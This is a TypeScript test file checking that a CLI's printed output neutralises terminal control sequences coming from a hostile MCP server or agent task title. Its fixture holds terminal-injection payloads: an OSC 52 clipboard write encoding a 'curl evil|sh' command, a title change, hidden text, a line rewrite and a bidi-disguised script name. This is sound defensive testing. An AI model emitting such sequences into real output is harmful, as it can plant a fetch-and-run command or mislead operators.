/**
 * What `capstan` prints reaches a terminal, and much of it comes from elsewhere: a server's titles,
 * descriptions and errors, an agent's task titles. None of it can drive the terminal: no escape
 * sequence, bell, carriage return, C1 control or bidirectional override reaches stdout or stderr;
 * each is shown as a visible stand-in, so the operator still reads what was said. `--json` keeps
 * the same values, as JSON escapes. (The built CLI: `npm run build` first.)
 */
import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestGateway, type TestGateway } from '../support/gateway';
import { waitForProvider } from '../support/mcp';
import { CLI } from '../support/serveProcess';

const LYING = fileURLToPath(new URL('../support/lyingMcpServer.ts', import.meta.url));
/** What a hostile server says to a terminal: a clipboard write (OSC 52), a title, hidden text, a line rewritten, a C1 control, reordered text. */
const SHOUT = 'Reads\u001b]52;c;Y3VybCBldmlsfHNo\u0007 the\u001b]0;PWNED\u0007 clock\u001b[8m\rrisk low\u009b31m invoice_\u202Efdp.sh\u202C\u200B tag\u{E0041}';
let gw: TestGateway;
let agentToken: string;

beforeAll(async () => {
  gw = await startTestGateway({ config: { grants: [{ pattern: '*', authority: 'execute' }], mcpServers: { lying: { command: process.execPath, args: [LYING], env: { LYING_SHOUT: SHOUT } } } } });
  await waitForProvider(gw.host, 'lying');
  agentToken = gw.host.agents.create('shouter').token;
  // An agent's task, titled as it likes.
  const started = await fetch(new URL('/tasks', gw.url), {
    method: 'POST',
    headers: { authorization: `Bearer ${agentToken}`, 'content-type': 'application/json' },
    body: JSON.stringify({ action: 'start', sessionId: 'agent:shouter/loud', title: `Deploy ${SHOUT}` }),
  });
  expect(started.status).toBe(200);
});
afterAll(() => gw?.stop());

/** Runs the CLI against the in-process gateway (not spawnSync: that would stop the gateway it asks). */
function capstan(...args: string[]): Promise<{ stdout: string; stderr: string }> {
  // The ledger's commands read the data dir itself; the others ask the gateway.
  const where = args[0] === 'ledger' ? ['--data-dir', gw.dataDir] : ['--url', gw.url];
  const child = spawn(process.execPath, [CLI, ...args, ...where], { env: { ...process.env, CAPSTAN_TOKEN: gw.token } });
  let stdout = '';
  let stderr = '';
  child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
  child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
  return new Promise((resolve) => child.once('close', () => resolve({ stdout, stderr })));
}

/** Anything a terminal acts on rather than shows: C0 but newline and tab, DEL, C1, bidirectional and invisible marks, tag characters. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const ACTED_ON = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u200B-\u200F\u202A-\u202E]|\uDB40[\uDC00-\uDC7F]/;

describe('what the CLI prints', () => {
  it.each([
    ['tools', ['tools']],
    ['a failed call', ['call', 'lying:shouty']],
    ['tasks', ['tasks']],
    ['the ledger', ['ledger', 'tail', '-n', '50']],
  ])('shows a hostile server’s or agent’s words in %s, and lets none of them drive the terminal', async (_what, args) => {
    const { stdout, stderr } = await capstan(...args);
    expect(stdout + stderr).not.toMatch(ACTED_ON);
    // What was said is still there to read, its controls as stand-ins.
    expect(stdout + stderr).toMatch(/␛\]52;c;Y3VybCBldmlsfHNo␇|Deploy/);
  });

  it('keeps the exact values in --json, every such character a JSON escape', async () => {
    const { stdout } = await capstan('ledger', 'tail', '-n', '50', '--json');
    expect(stdout).not.toMatch(ACTED_ON);
    const titled = stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { details: { title?: string } })
      .find((entry) => entry.details.title?.startsWith('Deploy'));
    expect(titled?.details.title).toBe(`Deploy ${SHOUT}`);
  });
});
